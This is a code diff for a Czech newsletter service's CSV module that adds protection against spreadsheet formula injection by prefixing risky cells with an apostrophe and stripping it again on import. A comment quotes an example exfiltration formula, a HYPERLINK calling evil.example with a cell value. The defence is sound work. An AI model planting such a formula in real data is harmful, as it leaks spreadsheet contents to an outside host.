@@ -1,17 +1,21 @@
-"""Reading a CSV of people: the file, its header and the problems of each line.
+"""Reading and writing a CSV of people: the file, its header and the problems of each line.
 
 Both imports read their files here: subscribers into a list (the
 `zpravodaj subscribers import` command and the admin upload) and invitations
 into a working group (the admin upload). A file is refused, and a line
 skipped, for the same reasons in the same Czech words wherever it comes in.
+
+Every CSV the service writes goes through `writer`, which neutralises cells a
+spreadsheet would run as a formula (`neutralise_cell`); reading strips that
+mark again (`restore_cell`), so an export imports back unchanged.
 """
 
 from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Iterator
-from typing import IO
+from collections.abc import Iterable, Iterator, Mapping
+from typing import IO, Any
 
 from werkzeug.datastructures import FileStorage
 
@@ -23,6 +27,49 @@ NOT_UTF8 = "Soubor není v kódování UTF-8. Uložte ho prosím jako „CSV UTF
 NOT_CSV = "Soubor není platné CSV."
 NO_EMAIL_COLUMN = "V prvním řádku chybí sloupec „email“ (záhlaví s názvy sloupců)."
 SEMICOLONS = " Sloupce jsou oddělené středníkem; použijte čárku."
+
+
+# A spreadsheet runs a cell starting with one of these as a formula (a tab or a
+# carriage return is dropped first, and what follows it runs): CSV injection,
+# e.g. a sign-up named `=HYPERLINK("http://evil.example/?x="&A1,"klik")`.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# OWASP's remedy: a leading apostrophe makes the cell text. A cell that starts
+# with an apostrophe gets one too, so that reading can always strip exactly one.
+TEXT_MARK = "'"
+
+
+def neutralise_cell(value: Any) -> Any:
+    """`value` as written to a CSV: text a spreadsheet could run gets a leading apostrophe."""
+    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, TEXT_MARK)):
+        return TEXT_MARK + value
+    return value
+
+
+def restore_cell(value: str) -> str:
+    """A cell as `neutralise_cell` received it: the apostrophe it added is taken off.
+
+    Only an apostrophe before a character that would have earned one is
+    removed, so a name such as `'t Hooft` typed into a spreadsheet stays whole.
+    """
+    if value.startswith(TEXT_MARK) and value[1:2] and value[1] in (*FORMULA_STARTS, TEXT_MARK):
+        return value[1:]
+    return value
+
+
+class _NeutralisingWriter(csv.DictWriter):
+    """A DictWriter whose every cell (header included) goes through `neutralise_cell`."""
+
+    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
+        return super().writerow({key: neutralise_cell(value) for key, value in rowdict.items()})
+
+    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
+        for rowdict in rowdicts:
+            self.writerow(rowdict)
+
+
+def writer(stream: IO[str], columns: Iterable[str]) -> csv.DictWriter:
+    """The one way the service writes a CSV: rows as dicts, no cell read as a formula."""
+    return _NeutralisingWriter(stream, fieldnames=list(columns), lineterminator="\n")
 
 
 class ImportRefused(ValueError):
@@ -104,9 +151,10 @@ class PeopleCsv:
             raise ImportRefused(_unreadable(exc, self._reader.line_num + 1)) from None
 
     def cell(self, row: dict, column: str) -> str:
-        """The row's value in `column`, stripped; '' when the file has no such column."""
+        """The row's value in `column`, stripped and without the apostrophe an export
+        put before formula-like text; '' when the file has no such column."""
         value = row.get(self.columns[column]) if column in self.columns else None
-        return value.strip() if isinstance(value, str) else ""
+        return restore_cell(value.strip()) if isinstance(value, str) else ""
 
     def skip(self, line: int, problem: str) -> None:
         self.problems.append((line, problem))
